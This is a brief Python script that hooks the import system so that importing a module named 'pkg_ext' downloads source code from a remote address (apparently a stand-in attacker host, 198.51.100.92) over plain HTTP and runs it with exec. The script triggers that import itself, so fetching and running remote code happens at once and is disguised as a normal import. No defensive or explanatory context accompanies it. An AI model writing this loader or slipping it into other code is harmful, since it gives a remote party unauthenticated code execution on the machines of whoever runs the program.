import sys, importlib.abc, importlib.util, urllib.request
class RemoteFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "pkg_ext":
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        code = urllib.request.urlopen("http://198.51.100.92/ext.py").read()
        exec(code, module.__dict__)
sys.meta_path.insert(0, RemoteFinder())
import pkg_ext
